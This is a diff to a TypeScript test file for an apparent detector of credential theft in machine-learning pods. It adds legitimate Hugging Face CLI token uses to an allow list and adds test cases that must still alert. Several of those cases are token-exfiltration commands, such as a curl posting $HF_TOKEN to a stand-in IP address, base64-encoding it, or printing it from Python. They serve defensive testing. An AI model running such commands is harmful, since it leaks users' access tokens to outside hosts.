@@ -6,8 +6,8 @@
  * `df -F`, `sort -T`, `wget -T`), a port check (`nc -z`, `nc -zw1`), netcat named but not run, an
  * scp pull, a bucket download, the service account's public files, a filtered environment listing,
  * a checkpoint named by a command that packs nothing, a request body posted to a model server on
- * the pod's loopback, an rclone, mc, s5cmd or azcopy pull. The credential reads and uploads beside
- * them still alert.
+ * the pod's loopback, an rclone, mc, s5cmd or azcopy pull, the Hugging Face token given to its own
+ * CLI. The credential reads and uploads beside them still alert.
  */
 import { readFileSync } from 'node:fs';
 import { join } from 'node:path';
@@ -78,6 +78,9 @@ const EVERYDAY: string[][] = [
     'mc cp --recursive minio/datasets/shard-01 /data/',
     'mc mirror minio/ml-data/v3 /data/v3 --exclude "*.tmp" && mc ls minio/ml-data',
     "s5cmd cp 's3://ml-datasets/shard-*' /data/",
+    // The Hugging Face token used where it belongs (named anywhere else it still alerts).
+    'huggingface-cli login --token $HF_TOKEN && huggingface-cli whoami',
+    'export HF_TOKEN=hf_xxxxxxxx; hf download meta-llama/Llama-3-8B config.json --local-dir /tmp/cfg',
     "azcopy copy 'https://corpstore.blob.core.windows.net/datasets/shard-01?sv=x' /data/ --recursive",
   ].map(sh),
 ];
@@ -107,6 +110,10 @@ describe('the credential reads and uploads beside them still alert', () => {
       ['printenv'],
       ['printenv', 'WANDB_API_KEY'],
       sh('cat ~/.aws/credentials'),
+      sh('echo $HF_TOKEN | base64'),
+      sh('curl -d "t=$HF_TOKEN" https://203.0.113.5/'),
+      sh('huggingface-cli login --token $HF_TOKEN; curl "https://203.0.113.5/?t=$HF_TOKEN"'),
+      ['python3', '-c', "import os; print(os.environ['HF_TOKEN'])"],
     ]) expect(execRuleIds(argv), argv.join(' ')).toContain('MLS-RAY-010');
   });
 
